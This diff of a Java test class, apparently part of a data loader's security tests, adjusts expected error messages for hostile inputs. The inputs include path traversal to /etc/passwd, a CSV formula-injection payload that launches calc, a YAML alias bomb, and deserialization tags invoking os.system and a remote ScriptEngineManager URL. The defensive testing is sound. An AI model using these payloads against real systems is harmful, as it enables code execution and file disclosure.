@@ -40,7 +40,7 @@ final class HostileData {
         table("a file that climbs", 4, "does not lie in data.dir", CSV + "../../../etc/passwd,a,train\n");
         table("an absolute file", 4, "does not lie in data.dir", CSV + "/etc/passwd,a,train\n");
         table("a file name with a zero", 4, "is not a file name", CSV + "a\0b.jpg,a,train\n");
-        table("a quote that does not end", 4, "", CSV + "\"0.jpg,a,train\n1.jpg,b,train\n");
+        table("a quote that does not end", 4, "not closed", CSV + "\"0.jpg,a,train\n1.jpg,b,train\n");
         table("other columns", 4, "must name the columns", "=cmd|' /C calc'!A0,b\n1,2\n");
         table("no UTF-8", 4, "not UTF-8", CSV + "\u00ff\u00fe,a,train\n");
         table("lines in a message", 4, "\\u000a", CSV + "\"../a\nb\u001b[31m\",a,train\n");
@@ -118,7 +118,7 @@ final class HostileData {
             laughs.append("a").append(i).append(": &a").append(i).append(" [");
             laughs.append(("*a" + (i - 1) + ",").repeat(9)).append("]\n");
         }
-        yaml("aliases of aliases", "unknown key a0", laughs.toString());
+        yaml("aliases of aliases", "aliases", laughs.toString());
         yaml("aliases as a value", "data.dir", "data: {dir: " + "&a [*a, *a]" + "}\n");
         yaml("a Java tag", "", "data: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
         yaml("a Python tag", "", "seed: !!python/object/apply:os.system [\"touch x\"]\n");
